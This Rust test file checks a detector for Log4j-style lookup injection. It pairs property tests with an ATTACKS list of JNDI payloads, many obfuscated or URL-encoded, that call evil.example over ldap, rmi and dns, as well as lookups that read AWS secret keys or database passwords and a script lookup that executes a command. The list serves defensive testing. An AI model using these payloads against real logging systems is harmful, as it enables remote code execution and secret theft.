use proptest::prelude::*;

use crate::security::{
    detectors::{Clues, Detector, Subject, trial},
    normalise::{part::Place, step::Steps},
};

#[test]
fn attacks_are_told_from_ordinary_text() {
    trial::check(Detector::LookupInjection, ATTACKS, ORDINARY);
}

proptest! {
    #[test]
    fn no_bytes_make_it_panic(bytes in prop::collection::vec(any::<u8>(), 0..300), text in "([${}:'\"-]|\\$\\{|:-|jndi|lower|a){0,60}") {
        for bytes in [&bytes[..], text.as_bytes()] {
            let _level = Detector::LookupInjection.suspicion(&Subject {
                bytes,
                place: Place::JsonString,
                name: None,
                steps: Steps::default(),
                clues: Clues::of(bytes),
            });
        }
    }

    #[test]
    fn each_letter_may_be_disguised(ways in prop::collection::vec(0..5_usize, 4)) {
        let disguise = |(letter, way): (char, &usize)| match way {
            0 => letter.to_string(),
            1 => format!("${{lower:{letter}}}"),
            2 => format!("${{::-{letter}}}"),
            3 => format!("${{env:NONE:-{letter}}}"),
            _ => format!("${{upper:${{lower:{letter}}}}}"),
        };
        let name: String = "jndi".chars().zip(&ways).map(disguise).collect();
        let text = format!("x ${{{name}:ldap://evil.example/a}}");
        let level = trial::level(Detector::LookupInjection, Place::HeaderValue, None, text.as_bytes());
        prop_assert_eq!(level, Some(1));
    }
}

const ATTACKS: &[&str] = &[
    "${jndi:ldap://evil.example/a}",
    "${jndi:ldaps://evil.example/a}",
    "${jndi:rmi://evil.example/a}",
    "${jndi:dns://evil.example/a}",
    "${jndi:iiop://evil.example/a}",
    "${jndi:http://evil.example/a}",
    "${jndi:nis://evil.example/a}",
    "${JNDI:LDAP://evil.example/a}",
    "${jNdI:lDaP://evil.example/a}",
    "${jndi:ldap://127.0.0.1#evil.example/a}",
    "${jndi:ldap://evil.example/${env:USER}}",
    "x ${jndi:ldap://evil.example/a} y",
    "${jndi:ldap://evil.example/a",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "${${lower:jndi}:ldap://evil.example/a}",
    "${${lower:j}${lower:n}${lower:d}i:ldap://evil.example/a}",
    "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}://evil.example/a}",
    "${${upper:j}ndi:ldap://evil.example/a}",
    "${${::-j}ndi:rmi://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}",
    "${j${::-n}di:ldap://evil.example/a}",
    "${${:-j}ndi:ldap://evil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example/a}",
    "${${env:BARFOO:-j}ndi:ldap://evil.example/a}",
    "${${sys:x:-j}ndi:ldap://evil.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
    "${${lower:${lower:jndi}}:ldap://evil.example/a}",
    "${jn${lower:d}i:l${lower:d}ap://evil.example/a}",
    "${jndi${::-:}ldap://evil.example/a}",
    "$%7Bjndi:ldap://evil.example/a%7D",
    "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%252Fa%257D",
    "\\u0024\\u007bjndi:ldap://evil.example/a}",
    "&#36;{jndi:ldap://evil.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "${sys:java.version}",
    "${java:version}",
    "${lower:X}",
    "${upper:x}",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "${dns:address|evil.example}",
    "${bundle:application:spring.datasource.password}",
    "jndi:ldap://evil.example/a",
    "jndi:rmi://evil.example/a",
    "${base64Decoder:SGVsbG8=}",
];

const ORDINARY: &[&str] = &[
    "${nome}",
    "${cliente.nome}",
    "${valor}: R$ 10",
    "Nome: ${nome}",
    "Total: ${amount}; data: ${date}",
    "${name:Ana}",
    "${x:-y}",
    "${porta:8080}",
    "US$ {10}: ok",
    "$ {a:b}",
    "{jndi: 1}",
    "ldap://directory.example.com",
    "jndi",
    "JNDI: Java Naming",
    "jndi:java",
    "lower: 1",
    "env: prod",
    "env:prod",
    "$env:prod",
    "${env}",
    "${sys}",
    "a:b",
    "10:30",
    "http://example.com:80",
    "{\"a\":\"$b\"}",
    "{\"price\":\"$10\"}",
    "${}",
    "${:}",
    "${a}${b}:${c}",
    "#{env:prod}",
    "::1",
    "a::b",
    ":-)",
    "$:{",
    "${a:${b}}",
    "R$ 10: {à vista}",
    "Custo: $100 {cem}",
    "data: {valor: $5}",
    "x-${id}:y",
    "urn:${a}:b",
];
